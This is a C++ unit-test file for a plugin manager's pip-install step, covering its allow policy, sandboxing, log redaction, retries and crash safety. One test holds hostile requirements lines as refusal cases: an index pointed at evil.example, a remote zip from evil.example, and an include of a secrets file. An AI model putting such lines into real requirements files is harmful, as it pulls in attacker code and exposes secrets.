#include "engine/install_requirements.h"

#include <gmock/gmock.h>

#include <cerrno>
#include <fstream>

#include "engine/engine_test_support.h"
#include "engine/look.h"
#include "engine/python_requirements.h"
#include "engine/reconcile.h"
#include "engine/unattended.h"
#include "engine/undo.h"
#include "ledger/ledger.h"
#include "platform/child_program.h"
#include "platform/observed_file_system.h"
#include "support/files.h"

namespace trueup::engine {
namespace {

using model::PythonRequirements;
using platform::ChildEnd;
using platform::ChildProgram;
using testing::Contains;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;
using testing::SizeIs;
using OnLine = std::function<void(std::string_view)>;

constexpr const char* kFinding = "plugin_incompatible:clock:requirements";

/// clock is on, whole, and asks for a package that the display's Python has not.
class Packages : public EngineTest {
 protected:
  Packages() {
    add_plugin("clock");
    require("clock", "requests>=2.0.0\n");
    configure({{"clock", R"({"enabled": true})"}});
    record_state({record("clock", true)});
    use_python("/venv");
    pip = [this](const ChildProgram&, const OnLine& say) {
      say("Successfully installed requests-2.31.0");
      put_package("requests-2.31.0");
      return ChildEnd{};
    };
  }

  void use_python(const std::string& environment) {
    venv = environment;
    ports.processes.processes = {{.pid = 77, .arguments = {venv + "/bin/python3", path("run.py")}}};
    disk.put_file(venv + "/pyvenv.cfg", "include-system-site-packages = false\n");
    put_package("pip-23.0.1");
  }
  void put_package(const std::string& name) {
    disk.put_directory(venv + "/lib/python3.11/site-packages/" + name + ".dist-info");
  }
  void require(const std::string& id, const std::string& text) { write(requirements(id), text); }
  static std::string requirements(const std::string& id) { return "plugin-repos/" + id + "/requirements.txt"; }
  static std::string marker(const std::string& id) { return "plugin-repos/" + id + "/" + kMarker; }
  /// pip fails, and says why.
  void let_pip_fail() {
    pip = [](const ChildProgram&, const OnLine& say) {
      say("Collecting requests");
      say("ERROR: No matching distribution found for requests");
      say("  what follows is no reason");
      return ChildEnd{.exit_status = 1};
    };
  }

  World here() {
    World world = EngineTest::world();
    world.run_child = [this](const ChildProgram& child, const OnLine& say) -> Result<ChildEnd> {
      runs.push_back(child);
      return pip(child, say);
    };
    return world;
  }
  static model::Policy allowed(bool retry = false) {
    return {.retry = retry, .python_requirements = PythonRequirements::install};
  }
  PassReport pass(const model::Policy& policy, Unattended* unattended = nullptr) {
    World world = here();
    world.unattended = unattended;
    auto report = reconcile(world, policy);
    EXPECT_TRUE(report) << report.error().text();
    return std::move(*report);
  }
  /// What a plan says of the plugin's packages; nothing where it finds nothing.
  std::optional<model::Inconsistency> told(const model::Policy& policy) {
    World world = here();
    const auto report = plan(world, policy);
    EXPECT_TRUE(report) << report.error().text();
    const auto found = std::ranges::find(report->plan.findings, kFinding, &model::Inconsistency::finding);
    return found == report->plan.findings.end() ? std::nullopt : std::optional(*found);
  }
  std::vector<std::string> history() {
    std::vector<std::string> lines;
    const auto root = disk.open_root_for_reading(kRoot);
    const auto reading = ledger::read_ledger(**root);
    if (!reading.snapshot) return lines;
    const auto actions = reading.snapshot->read().history();
    for (const auto& action : *actions) lines.push_back(action.result);
    return lines;
  }

  std::string venv;
  std::vector<ChildProgram> runs;
  std::function<Result<ChildEnd>(const ChildProgram&, const OnLine&)> pip;
};

TEST_F(Packages, are_left_to_a_person_and_the_display_where_the_owner_allows_nothing_else) {
  const auto before = theirs(disk);
  pass({});
  pass({.retry = true});
  EXPECT_THAT(runs, IsEmpty());
  EXPECT_EQ(theirs(disk), before);
  EXPECT_THAT(told({})->advice, HasSubstr("sudo /venv/bin/python3 -m pip install --break-system-packages -r " +
                                          path(requirements("clock"))));
}

TEST_F(Packages, are_installed_once_by_the_command_that_is_told_and_then_there_is_nothing_left_to_do) {
  const PassReport report = pass(allowed());
  ASSERT_THAT(runs, SizeIs(1));
  EXPECT_EQ(runs[0].program, "/venv/bin/python3");
  EXPECT_THAT(runs[0].arguments,
              ElementsAre("-m", "pip", "install", "--break-system-packages", "-r", path(requirements("clock"))));
  EXPECT_TRUE(runs[0].with_its_own);
  EXPECT_EQ(runs[0].patience, kPipPatience);
  EXPECT_EQ(report.result.inconsistencies_fixed.size(), 1U);
  EXPECT_TRUE(report.unverified.empty());
  EXPECT_FALSE(told(allowed()));
  EXPECT_THAT(history(), Contains(HasSubstr("pip installed requests>=2.0.0 for clock")));
  EXPECT_EQ(read(".trueup/pip/clock.txt"), "$ /venv/bin/python3 -m pip install --break-system-packages -r " +
                                               path(requirements("clock")) +
                                               "\nSuccessfully installed requests-2.31.0\n(it ended well)\n");
  const std::size_t lines = history().size();
  pass(allowed());
  EXPECT_THAT(runs, SizeIs(1));
  EXPECT_THAT(history(), SizeIs(lines));
}

TEST_F(Packages, pip_is_given_nothing_of_ours_and_works_where_nobody_can_slip_it_a_module) {
  pass(allowed());
  ASSERT_THAT(runs, SizeIs(1));
  EXPECT_EQ(runs[0].directory, "/") << "-m looks in the working directory first";
  EXPECT_THAT(runs[0].descriptors, IsEmpty());
  EXPECT_EQ(runs[0].input, "");
  for (const std::string& variable : runs[0].environment) {
    EXPECT_TRUE(variable.starts_with("PATH=/") || variable.starts_with("LC_ALL=") || variable.starts_with("PIP_"))
        << variable;
    EXPECT_THAT(variable, Not(HasSubstr("hush")));
  }
}

TEST_F(Packages, ledmatrix_is_spared_another_run_only_where_that_stays_true) {
  add_plugin("checkout");
  require("checkout", "requests>=2.0.0\n");
  write("plugin-repos/checkout/.git/HEAD", "ref: refs/heads/main\n");
  pass(allowed());
  EXPECT_EQ(read(marker("clock")), "");
  EXPECT_EQ(read(marker("checkout")), "(not there)");
  EXPECT_THAT(runs, SizeIs(1));
}

TEST_F(Packages, a_failure_leaves_the_plugin_as_it_was_and_is_told_kept_and_not_tried_again_at_once) {
  let_pip_fail();
  const auto before = theirs(disk);
  const PassReport report = pass(allowed());
  ASSERT_THAT(runs, SizeIs(1));
  EXPECT_EQ(theirs(disk), before) << "no half of a plugin, and no marker";
  ASSERT_THAT(report.steps, SizeIs(1));
  EXPECT_EQ(report.steps[0].kind, StepResult::Kind::failed);
  EXPECT_EQ(report.steps[0].why,
            "pip failed with exit status 1 (ERROR: No matching distribution found for requests); what it said is in "
            ".trueup/pip/clock.txt");
  EXPECT_THAT(read(".trueup/pip/clock.txt"), HasSubstr("Collecting requests"));
  EXPECT_THAT(history(), Contains(HasSubstr("failed: the Python packages of clock are not installed")));
  const auto found = told(allowed());
  ASSERT_TRUE(found);
  EXPECT_EQ(found->reason, "requirements_wait");
  EXPECT_THAT(found->advice, HasSubstr("No matching distribution"));
  EXPECT_THAT(found->advice, HasSubstr("sudo /venv/bin/python3 -m pip"));
  const PassReport second = pass(allowed());
  EXPECT_THAT(runs, SizeIs(1)) << "not at once";
  ASSERT_TRUE(second.next_try);
  EXPECT_GE(*second.next_try, std::chrono::minutes(59));
  pass(allowed(true));
  EXPECT_THAT(runs, SizeIs(2)) << "--retry tries";
  ports.clock.advance(std::chrono::hours(2));
  pass(allowed());
  EXPECT_THAT(runs, SizeIs(3)) << "and so does time";
}

TEST_F(Packages, a_failure_counts_no_more_when_what_is_asked_for_changes) {
  let_pip_fail();
  pass(allowed());
  require("clock", "requests>=2.1.0\n");
  pass(allowed());
  EXPECT_THAT(runs, SizeIs(2));
}

TEST_F(Packages, a_run_that_ends_well_and_brings_nothing_has_failed) {
  pip = [](const ChildProgram&, const OnLine&) { return ChildEnd{}; };
  const PassReport report = pass(allowed());
  EXPECT_THAT(report.steps[0].why, HasSubstr("pip ended well, and requests>=2.0.0 is still missing"));
  EXPECT_EQ(read(marker("clock")), "(not there)");
  pass(allowed());
  EXPECT_THAT(runs, SizeIs(1));
}

TEST_F(Packages, what_pip_says_is_bounded_harmless_to_look_at_and_repeats_no_password) {
  pip = [](const ChildProgram&, const OnLine& say) {
    say("the very first line");
    for (int i = 0; i < 5000; ++i) say("line " + std::to_string(i) + " \x1b[31mred");
    say("ERROR: Could not fetch https://me:canary@example.org/simple");
    return ChildEnd{.exit_status = 2};
  };
  const PassReport report = pass(allowed());
  const std::string kept = read(".trueup/pip/clock.txt");
  EXPECT_LE(kept.size(), kMostPipKept + 500);
  EXPECT_THAT(kept, HasSubstr("(the beginning is left out)"));
  EXPECT_THAT(kept, Not(HasSubstr("the very first line")));
  EXPECT_THAT(kept, HasSubstr("line 4999 \\x1b[31mred"));
  EXPECT_EQ(kept.find('\x1b'), std::string::npos);
  EXPECT_THAT(report.steps[0].why, HasSubstr("exit status 2;")) << "the reason is not repeated";
  EXPECT_THAT(history().front(), Not(HasSubstr("canary")));
  EXPECT_EQ((*disk.open_root_for_reading(kRoot))->info(".trueup/pip/clock.txt", platform::Links::refuse)->mode, 0600U);
}

TEST_F(Packages, an_odd_requirements_file_is_given_to_nobody) {
  for (const char* line : {"--index-url http://evil.example", "-e .", "-r ../../config/config_secrets.json",
                           "x @ https://evil.example/x.zip"}) {
    require("clock", "requests>=2.0.0\n" + std::string(line) + "\n");
    pass(allowed(true));
    EXPECT_THAT(runs, IsEmpty()) << line;
    const auto found = told(allowed());
    ASSERT_TRUE(found) << line;
    EXPECT_EQ(found->reason, "requirements_not_plain");
    EXPECT_THAT(found->advice, HasSubstr("line 2"));
  }
}

TEST_F(Packages, one_run_that_brings_what_two_plugins_need_is_the_only_one) {
  add_plugin("weather");
  require("weather", "requests\n");
  configure({{"clock", R"({"enabled": true})"}, {"weather", R"({"enabled": true})"}});
  record_state({record("clock", true), record("weather", true)});
  const PassReport report = pass(allowed());
  EXPECT_THAT(runs, SizeIs(1));
  for (const StepResult& step : report.steps) EXPECT_EQ(step.kind, StepResult::Kind::done) << step.why;
}

TEST_F(Packages, are_not_installed_under_the_originals_rules) {
  pass({.rules = model::RuleSet::ledmatrix, .python_requirements = PythonRequirements::install});
  EXPECT_THAT(runs, IsEmpty());
}

TEST_F(Packages, wait_in_a_pass_that_nobody_asked_for_while_the_machine_is_in_need) {
  Unattended hot;
  hot.fetching_waits = {.reason = "too_hot", .says = "it is too hot"};
  pass(allowed(), &hot);
  EXPECT_THAT(runs, IsEmpty());
  Unattended cool;
  pass(allowed(), &cool);
  EXPECT_THAT(runs, SizeIs(1));
}

TEST_F(Packages, a_pass_that_is_to_stop_ends_pip_and_that_is_no_failure_of_pip) {
  bool stop = false;
  pip = [&stop](const ChildProgram& child, const OnLine&) {
    stop = true;
    return ChildEnd{.in_time = !child.stop_wanted(), .stopped = child.stop_wanted(), .exit_status = -1};
  };
  World world = here();
  world.stop_wanted = [&stop] { return stop; };
  ASSERT_TRUE(reconcile(world, allowed()));
  EXPECT_EQ(told(allowed())->reason, "requirements_missing") << "nothing waits";
}

TEST_F(Packages, undo_takes_back_what_was_done_before_pip_was_run) {
  record_state({record("clock", false)});
  pass(allowed());
  ASSERT_THAT(runs, SizeIs(1));
  World world = here();
  const auto undone = undo(world, 0, UndoReach::last_command);
  ASSERT_TRUE(undone) << undone.error().text();
  EXPECT_THAT(history().front(), HasSubstr("undid"));
  EXPECT_THAT(history().front(), Not(HasSubstr("pip")));
}

TEST_F(Packages, behind_a_verb_are_seen_to_for_what_it_put_in_place_on_or_off) {
  configure({{"clock", R"({"enabled": false})"}});
  record_state({record("clock", false)});
  World world = here();
  EXPECT_THAT(install_requirements_of(world, {}, "install", {"clock"}).value(), IsEmpty());
  EXPECT_THAT(runs, IsEmpty());
  EXPECT_EQ(read(".trueup/ledger.db"), "(not there)");
  const auto says = install_requirements_of(world, allowed(), "install", {"clock"});
  EXPECT_THAT(says.value(), ElementsAre("pip installed requests>=2.0.0 for clock"));
  EXPECT_THAT(install_requirements_of(world, allowed(), "install", {"clock"}).value(), IsEmpty());
  EXPECT_THAT(runs, SizeIs(1));
}

TEST_F(Packages, a_pip_that_hangs_is_killed_with_what_it_started) {
  const test::TempDirectory real;
  use_python(real.path() / "venv");
  test::write_file(real.path() / "venv/bin/python3", "#!/bin/sh\nsleep 1000 &\necho \"child $!\"\nwait\n");
  std::filesystem::permissions(real.path() / "venv/bin/python3", std::filesystem::perms::owner_all);
  pip = [](ChildProgram child, const OnLine& say) {
    child.patience = std::chrono::milliseconds(500);
    return platform::run_child(child, say);
  };
  const PassReport report = pass(allowed());
  EXPECT_THAT(report.steps[0].why, HasSubstr("pip did not end within 10 minutes and was killed"));
  const std::string kept = read(".trueup/pip/clock.txt");
  const std::size_t at = kept.find("child ");
  ASSERT_NE(at, std::string::npos) << kept;
  const std::string status = "/proc/" + kept.substr(at + 6, kept.find('\n', at) - at - 6) + "/stat";
  std::string text = "R";
  while (!text.empty() && text.find(") Z") == std::string::npos) {
    std::ifstream file(status);
    text.assign(std::istreambuf_iterator<char>(file), {});
  }
  EXPECT_EQ(told(allowed())->reason, "requirements_wait");
}

TEST_F(Packages, a_python_that_cannot_be_run_is_told_so) {
  pip = [](const ChildProgram& child, const OnLine& say) { return platform::run_child(child, say); };
  EXPECT_THAT(pass(allowed()).steps[0].why, HasSubstr("/venv/bin/python3 could not be run"));
}

TEST_F(Packages, a_pass_that_is_killed_or_fails_at_any_call_leaves_the_plugin_whole_and_the_next_one_finishes) {
  const auto start = disk.image();
  const auto whole = theirs(disk);
  const auto without_marker = [this] {
    auto files = theirs(disk);
    files.erase(path(marker("clock")));
    std::erase_if(files, [this](const auto& file) { return file.first.starts_with(venv + "/"); });
    return files;
  };
  auto expected = whole;
  std::erase_if(expected, [this](const auto& file) { return file.first.starts_with(venv + "/"); });
  const auto next_pass_finishes = [&](const std::string& when) {
    EXPECT_EQ(without_marker(), expected) << when;
    World later = here();
    const auto report = reconcile(later, allowed(true));
    ASSERT_TRUE(report) << when << ": " << report.error().text();
    EXPECT_TRUE(report->result.reconciliation_successful) << when;
    EXPECT_FALSE(told(allowed())) << when;
    EXPECT_EQ(without_marker(), expected) << when;
  };
  int n = 1;
  for (bool hit = true; hit; ++n) {
    disk = platform::MemoryFileSystem(start);
    DeadFrom dead(n);
    platform::ObservedFileSystem watched(disk, dead);
    World killed = ports.world(watched);
    killed.run_child = here().run_child;
    (void)reconcile(killed, allowed());
    hit = dead.was_hit();
    next_pass_finishes(fmt::format("killed at call {}", n));
  }
  EXPECT_GT(n, 10);
  for (std::uint64_t k = 1;; ++k) {
    disk = platform::MemoryFileSystem(start);
    platform::FailNth fail(k, ENOSPC, platform::FailNth::Scope::once);
    platform::ObservedFileSystem watched(disk, fail);
    World failing = ports.world(watched);
    failing.run_child = here().run_child;
    (void)reconcile(failing, allowed());
    if (!fail.was_hit()) break;
    next_pass_finishes(fmt::format("failed at call {}", k));
  }
}

}  // namespace
}  // namespace trueup::engine
